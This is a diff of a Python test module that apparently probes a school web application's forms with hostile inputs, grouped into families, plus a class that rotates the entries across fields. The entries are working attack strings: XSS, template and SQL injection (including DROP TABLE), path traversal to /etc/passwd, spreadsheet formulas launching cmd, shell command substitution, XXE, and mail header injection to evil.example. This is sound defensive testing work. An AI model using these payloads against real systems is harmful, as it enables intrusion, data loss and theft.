@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import os
 import re
-from collections.abc import Iterator
+from collections import Counter
+from collections.abc import Collection, Iterable, Iterator, Mapping
 from functools import lru_cache
 from urllib.parse import urlsplit
 
@@ -16,75 +18,91 @@ OUTSIDE = "evil.example"
 """The place that no answer may lead to or name."""
 CANARY = '"><svg onload=alert(1)>'
 
-TEXTS: dict[str, str] = {
-    # Script, in attributes, in elements whose text is not escaped, and in what a page might decode once more.
-    "markup": CANARY,
-    "closing": "'\"--></style></script></textarea></title><svg onload=alert(1)>",
-    "attribute": "x' onfocus='alert(1)' autofocus x=\"",
-    "entities": "&lt;svg onload=alert(1)&gt;&#60;svg onload=alert(1)&#62;&quot;",
-    "percent": "%22%3E%3Csvg%20onload%3Dalert(1)%3E",
-    "percent twice": "%2522%253E%253Csvg%2520onload%253Dalert(1)%253E",
-    "rich text": '<p onclick=alert(1)><a href="javascript:alert(1)">x</a><svg onload=alert(1)></p>',
-    "markdown": '[x](javascript:alert(1)) ![x](x"onerror="alert(1))',
-    "script link": "javascript:alert(1)",
-    "hidden script link": "java\tscript:alert(1)",
-    "data link": "data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
-    "htmx": '<div hx-get="https://evil.example/" hx-trigger="load"></div>',
-    # Templates.
-    "jinja": "{{913*917}}{% print(913*917) %}{{config}}",
-    "expressions": "${913*917}#{913*917}<%= 913*917 %>*{913*917}",
-    "format": "%s%n%(x)s{0}{0.__class__}",
-    # SQL.
-    "sql": "' OR 1=1--",
-    "sql end": "');DROP TABLE persons;--",
-    "sql sleep": "'||(SELECT pg_sleep(9))||'",
-    "sql dollar": "$$;SELECT 1;$$\\",
-    "search": "a & | ! ( ) <-> :* %_\\",
-    # Text that is none.
-    "nul": "a\x00b",
-    "controls": "a\x01\x08\x0b\x1b[31m\x7f\x85b",
-    "surrogate": "a\ud800b\udfffc",
-    "no characters": "￾\ufdd0\U0010ffff",
-    "bidi": "‮abc‬⁦\u200b\u202e",
-    "marks": "ক" + "্" * 400 + "é" * 200,
-    "too long": "অ" * 6_000,
-    "white": " \t\u00a0\u2003\u3000 ",
-    "empty": "",
-    # Other languages' ways out.
-    "header": "x\r\nBcc: all@evil.example\r\n\r\nBoo",
-    "header folded": "x\nBcc: all@evil.example",
-    "address": "a@school.example,b@evil.example",
-    "path": "../../../../etc/passwd",
-    "path encoded": "..%2f..%2f..%2fetc%2fpasswd",
-    "formula": "=cmd|'/c calc'!A0",
-    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "command": "$(sleep 9)`sleep 9`;sleep 9|sleep 9",
-    "json": '{"$ne": null, "__proto__": {"x": 1}}',
-    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
-    "leads out": "//evil.example/x",
-    "leads out too": "https://evil.example/x",
-    "leads out backwards": "/\\evil.example/x",
-    "leads out as we": "http://localhost@evil.example/x",
-    # Numbers and days.
-    "huge": "9" * 400,
-    "beyond the column": "9223372036854775808",
-    "negative": "-1",
-    "nan": "NaN",
-    "infinite": "1e999",
-    "hex": "0x7fffffff",
-    "other digits": "٣٤৫",
-    "no day": "2026-02-30",
-    "first day": "0001-01-01",
-    "last day": "9999-12-31",
-    # Things of others, and of nobody.
-    "their section": str(key("section river 7A")),
-    "their student": str(CAST.sadia_student),
-    "nobody's": "00000000-0000-7000-8000-000000000000",
-    "no key": "01a1fe14-cba3-7161-a620-cbabc96c452",
-    "braced key": "{" + str(key("section river 7A")) + "}",
-    "wrong choice": "no-such-choice",
-    "role": "admin",
+FAMILIES: dict[str, dict[str, str]] = {
+    "script in a text": {
+        "markup": CANARY,
+        "closing": "'\"--></style></script></textarea></title><svg onload=alert(1)>",
+        "attribute": "x' onfocus='alert(1)' autofocus x=\"",
+        "rich text": '<p onclick=alert(1)><a href="javascript:alert(1)">x</a><svg onload=alert(1)></p>',
+        "markdown": '[x](javascript:alert(1)) ![x](x"onerror="alert(1))',
+        "htmx": '<div hx-get="https://evil.example/" hx-trigger="load"></div>',
+    },
+    "script for whoever decodes once more or fills a template": {
+        "entities": "&lt;svg onload=alert(1)&gt;&#60;svg onload=alert(1)&#62;&quot;",
+        "percent": "%22%3E%3Csvg%20onload%3Dalert(1)%3E",
+        "percent twice": "%2522%253E%253Csvg%2520onload%253Dalert(1)%253E",
+        "jinja": "{{913*917}}{% print(913*917) %}{{config}}",
+        "expressions": "${913*917}#{913*917}<%= 913*917 %>*{913*917}",
+        "format": "%s%n%(x)s{0}{0.__class__}",
+    },
+    "ways out of the site": {
+        "script link": "javascript:alert(1)",
+        "hidden script link": "java\tscript:alert(1)",
+        "data link": "data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+        "leads out": "//evil.example/x",
+        "leads out too": "https://evil.example/x",
+        "leads out backwards": "/\\evil.example/x",
+        "leads out as we": "http://localhost@evil.example/x",
+    },
+    "statements of a database": {
+        "sql": "' OR 1=1--",
+        "sql end": "');DROP TABLE persons;--",
+        "sql sleep": "'||(SELECT pg_sleep(9))||'",
+        "sql dollar": "$$;SELECT 1;$$\\",
+        "search": "a & | ! ( ) <-> :* %_\\",
+    },
+    "text that is none": {
+        "nul": "a\x00b",
+        "controls": "a\x01\x08\x0b\x1b[31m\x7f\x85b",
+        "surrogate": "a\ud800b\udfffc",
+        "no characters": "￾\ufdd0\U0010ffff",
+    },
+    "text that is odd": {
+        "bidi": "‮abc‬⁦\u200b\u202e",
+        "marks": "ক" + "্" * 400 + "é" * 200,
+        "too long": "অ" * 6_000,
+        "white": " \t\u00a0\u2003\u3000 ",
+        "empty": "",
+    },
+    "other languages' ways out": {
+        "header": "x\r\nBcc: all@evil.example\r\n\r\nBoo",
+        "header folded": "x\nBcc: all@evil.example",
+        "address": "a@school.example,b@evil.example",
+        "path": "../../../../etc/passwd",
+        "path encoded": "..%2f..%2f..%2fetc%2fpasswd",
+        "formula": "=cmd|'/c calc'!A0",
+        "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "command": "$(sleep 9)`sleep 9`;sleep 9|sleep 9",
+        "json": '{"$ne": null, "__proto__": {"x": 1}}',
+        "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+    },
+    "numbers": {
+        "huge": "9" * 400,
+        "beyond the column": "9223372036854775808",
+        "negative": "-1",
+        "nan": "NaN",
+        "infinite": "1e999",
+        "hex": "0x7fffffff",
+        "other digits": "٣٤৫",
+    },
+    "days": {
+        "no day": "2026-02-30",
+        "first day": "0001-01-01",
+        "last day": "9999-12-31",
+    },
+    "things of others, and of nobody": {
+        "their section": str(key("section river 7A")),
+        "their student": str(CAST.sadia_student),
+        "nobody's": "00000000-0000-7000-8000-000000000000",
+        "no key": "01a1fe14-cba3-7161-a620-cbabc96c452",
+        "braced key": "{" + str(key("section river 7A")) + "}",
+        "wrong choice": "no-such-choice",
+        "role": "admin",
+    },
 }
+"""Entries by what they try."""
+
+TEXTS = {label: payload for family in FAMILIES.values() for label, payload in family.items()}
 
 UNSHOWABLE = {
     "hidden script link",
@@ -222,10 +240,43 @@ _ODD_WORDS = ("javascript", "data:text", "vbscript", OUTSIDE)
 _HANDLER = re.compile(r"on(?<!\won)\w+\s*=")
 
 
-def rotated(names: list[str], payloads: list[str]) -> Iterator[dict[str, str]]:
-    """As many forms as there are payloads: each name meets each of them once, beside other ones."""
-    for turn in range(len(payloads)):
-        yield {name: payloads[(turn + place) % len(payloads)] for place, name in enumerate(names)}
+class Corpus:
+    """Hands out entries, form by form, so that none is sent everywhere and none is left out anywhere it could tell.
+
+    A field is read by the code of its kind, and the page around it says back what it holds. So every kind of field
+    meets every entry, the first time it comes, and every single field one of each family, another one each time.
+    With TEST_EVERY_ENTRY set every field meets all of them: that is for before a release, and takes five times as long.
+    """
+
+    def __init__(self, families: Iterable[Collection[str]] = FAMILIES.values()) -> None:
+        self._families = [list(family) for family in families]
+        self._met: dict[str, set[str]] = {}
+        self._turns: Counter[str] = Counter()
+        self._is_whole = bool(os.environ.get("TEST_EVERY_ENTRY"))
+
+    def sendings(
+        self, kinds: Mapping[str, str], labels: Collection[str] = TEXTS.keys()
+    ) -> Iterator[dict[str, str]]:
+        """What to send in the fields of a form, each beside other entries; `kinds` says what kind each is of."""
+        chosen = {name: self.labels(kind, labels) for name, kind in kinds.items()}
+        for turn in range(max(map(len, chosen.values()), default=0)):
+            yield {
+                name: TEXTS[entries[(turn + place) % len(entries)]]
+                for place, (name, entries) in enumerate(chosen.items())
+            }
+
+    def labels(self, kind: str, labels: Collection[str] = TEXTS.keys()) -> list[str]:
+        """Which of the entries the next field of a kind is to meet."""
+        families = [[label for label in family if label in labels] for family in self._families]
+        if self._is_whole:
+            return [label for family in families for label in family]
+        number = self._turns[kind]
+        self._turns[kind] += 1
+        met = self._met.setdefault(kind, set())
+        ones = {family[number % len(family)] for family in families if family}
+        chosen = [label for family in families for label in family if label in ones or label not in met]
+        met.update(chosen)
+        return chosen
 
 
 def faults(response: TestResponse, where: str) -> list[str]:
